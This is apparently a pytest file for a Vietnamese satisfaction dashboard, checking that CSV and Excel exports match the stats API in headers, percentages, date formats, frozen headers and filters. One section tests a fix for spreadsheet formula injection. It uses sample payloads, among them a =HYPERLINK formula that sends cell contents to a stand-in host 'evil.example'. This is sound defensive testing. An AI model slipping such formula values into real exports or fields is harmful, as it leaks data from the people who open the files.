"""CSV and Excel exports hold the same figures as GET /api/v1/stats for the same view, written for
a person opening them in Excel: Vietnamese (or English) headers, rates as percentages, totals
apart from the offices below them, number and date formats, a frozen header, filters, and a
sheet that says what the export holds."""

import csv
import datetime as dt
import io
import zipfile

from openpyxl import load_workbook

VIEW = {"preset": "custom", "from": "2026-04-01", "to": "2026-09-30", "period": "month", "office": "LDG-DMI",
        "channel": "all"}
API = {"from": "2026-04-01", "to": "2026-09-30", "period": "month", "office": "LDG-DMI", "channel": "all"}
HEADERS_VI = ["Loại dòng", "Mã cơ quan", "Cơ quan", "Phần", "Kỳ", "Ngày đầu kỳ", "Kỳ chưa trọn", "Số phiếu (n)",
              "Không hài lòng (1)", "Bình thường (2)", "Hài lòng (3)", "Rất hài lòng (4)",
              "Tỷ lệ hài lòng (QĐ 766) (%)", "Khoảng tin cậy 95 %, cận dưới (%)", "Khoảng tin cậy 95 %, cận trên (%)",
              "CSAT (%)", "Điểm trung bình"]


def api(client, breakdown):
    response = client.get("/api/v1/stats", query_string={**API, "breakdown": breakdown})
    assert response.status_code == 200
    return response.json["rows"]


def percent_text(value, decimal="."):
    return f"{value * 100:.2f}".replace(".", decimal)


def test_the_csv_export_matches_the_api_in_vietnamese(as_user):
    client = as_user("tinh")
    response = client.get("/dashboard/export.csv", query_string=VIEW)
    assert response.headers["Content-Disposition"].startswith("attachment; filename=satisfaction-LDG-DMI-")
    assert response.data.startswith("\ufeff".encode())  # the BOM Excel needs to read UTF-8
    table = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert table[0] == HEADERS_VI
    totals = [r for r in table[1:] if r[0] == "Tổng cộng"]
    parts = [r for r in table[1:] if r[0] == "Theo cơ quan"]
    assert len(totals) + len(parts) == len(table) - 1
    for rows, exported in ((api(client, "none"), totals), (api(client, "children"), parts)):
        assert [(r[1], int(r[7]), r[12], r[13], r[16]) for r in exported] == [
            (r["office"], r["responses"], percent_text(r["satisfaction_rate"]), percent_text(r["satisfaction_ci95"][0]),
             f"{r['mean_score']:.4f}".rstrip("0").rstrip(".")) for r in rows]
    assert [r[4] for r in totals][:2] == ["04/2026", "05/2026"] and totals[0][5] == "01/04/2026"
    assert any(r[3] == "các quầy trực tiếp" for r in parts)  # the district's own counters, said so
    assert "Đắk Mil" in response.data.decode("utf-8-sig")


def test_the_semicolon_csv_is_for_excel_set_to_vietnamese(as_user):
    client = as_user("tinh")
    response = client.get("/dashboard/export.csv", query_string={**VIEW, "sep": "semicolon"})
    assert response.headers["Content-Disposition"].endswith("-semicolon.csv")
    table = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    assert table[0] == HEADERS_VI
    first = api(client, "none")[0]
    assert table[1][12] == percent_text(first["satisfaction_rate"], ",")
    assert client.get("/dashboard/export.csv", query_string={**VIEW, "sep": "tab"}).status_code == 400


def test_the_csv_follows_the_readers_language(as_user):
    client = as_user("tinh")
    client.get("/language/en")
    header = next(csv.reader(io.StringIO(client.get("/dashboard/export.csv", query_string=VIEW)
                                         .data.decode("utf-8-sig"))))
    assert header[:3] == ["Rows", "Office code", "Office"] and "Satisfaction rate (Decision 766) (%)" in header


def test_the_excel_export_has_totals_and_offices_apart_with_formats_and_filters(as_user):
    client = as_user("xem")  # a viewer may export its own district
    response = client.get("/dashboard/export.xlsx", query_string=VIEW)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Tổng cộng", "Theo cơ quan", "Bộ lọc"]
    for sheet_name, breakdown in (("Tổng cộng", "none"), ("Theo cơ quan", "children")):
        sheet = book[sheet_name]
        rows = list(sheet.iter_rows(values_only=True))
        assert list(rows[0]) == HEADERS_VI[1:12] + [h.removesuffix(" (%)") for h in HEADERS_VI[12:]]
        expected = api(client, breakdown)
        assert [(r[0], r[6], r[11], r[12], r[13], r[15]) for r in rows[1:]] == [
            (r["office"], r["responses"], r["satisfaction_rate"], *r["satisfaction_ci95"], r["mean_score"])
            for r in expected]
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:P{len(rows)}"
        first = sheet[2]
        assert first[11].number_format == "0.0%" and first[6].number_format == "#,##0"
        assert isinstance(first[4].value, dt.datetime) and first[4].number_format.upper() == "DD/MM/YYYY"
    about = {row[0]: row[1] for row in book["Bộ lọc"].iter_rows(values_only=True)}
    assert about["Mã cơ quan"] == "LDG-DMI" and "Đắk Mil" in about["Cơ quan"]
    assert about["Từ"].date() == dt.date(2026, 4, 1) and about["Kênh"] == "Tất cả kênh"
    assert "không cộng hai trang" in about["Loại dòng"]


def test_an_export_of_an_empty_view_has_only_the_header(as_user):
    response = as_user("tinh").get("/dashboard/export.csv", query_string={**VIEW, "from": "2024-01-01",
                                                                           "to": "2024-01-31"})
    assert len(response.data.decode("utf-8-sig").splitlines()) == 1


# The outside review's finding 5: names starting with =, +, -, @, TAB or CR were written as
# formulas (a supervisor opening the export would run =HYPERLINK(...)).

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]
SIGNS = ("=", "+", "-", "@", "\t", "\r")


def _rename_communes_of_the_province(demo_app):
    from server.db import get_db
    with demo_app.app_context():
        db = get_db()
        codes = [code for (code,) in db.execute(
            "SELECT o.code FROM offices o JOIN offices p ON p.id = o.parent_id WHERE p.code = 'LDG' ORDER BY o.code")]
        for code, name in zip(codes, FORMULAS * 3, strict=False):
            db.execute("UPDATE offices SET name = ? WHERE code = ?", [name, code])
        db.execute("UPDATE meta SET value = value || 'x' WHERE key = 'offices_version'")
        db.conn.commit()


def test_office_names_that_look_like_formulas_open_as_plain_text_in_the_csv(demo_app, as_user):
    _rename_communes_of_the_province(demo_app)
    for sep in ("comma", "semicolon"):
        view = {**VIEW, "office": "LDG", "sep": sep}
        text = as_user("tinh").get("/dashboard/export.csv", query_string=view).data.decode("utf-8-sig")
        cells = {cell for line in csv.reader(io.StringIO(text), delimiter=";" if sep == "semicolon" else ",")
                 for cell in line}
        assert len({"'" + name for name in FORMULAS} & cells) >= 2  # the communes with ratings in the view
        assert not [cell for cell in cells if cell.startswith(SIGNS)]


def test_office_names_that_look_like_formulas_are_strings_in_the_excel_file(demo_app, as_user):
    _rename_communes_of_the_province(demo_app)
    data = as_user("tinh").get("/dashboard/export.xlsx", query_string={**VIEW, "office": "LDG"}).data
    book = load_workbook(io.BytesIO(data))
    cells = {cell.value: cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    shown = {name: cells[name] for name in FORMULAS if name in cells}  # exactly as named, not run
    assert len(shown) >= 2 and set(shown.values()) == {"s"}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not [name for name in sheets if "<f>" in archive.read(name).decode()]  # no formula


def test_every_formula_start_is_kept_as_text_in_both_formats():
    from openpyxl import Workbook

    from dashboards.exports import neutralise, xlsx_cell
    assert [neutralise(v) for v in (-0.5, 12, None, "Xã Đắk Sắk", "")] == [-0.5, 12, None, "Xã Đắk Sắk", ""]
    assert [neutralise(name) for name in FORMULAS] == ["'" + name for name in FORMULAS]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("names")
    sheet.append([xlsx_cell(sheet, name) for name in FORMULAS])
    data = io.BytesIO()
    book.save(data)
    [row] = load_workbook(io.BytesIO(data.getvalue()))["names"].iter_rows()
    assert [(cell.value, cell.data_type) for cell in row] == [(name, "s") for name in FORMULAS]
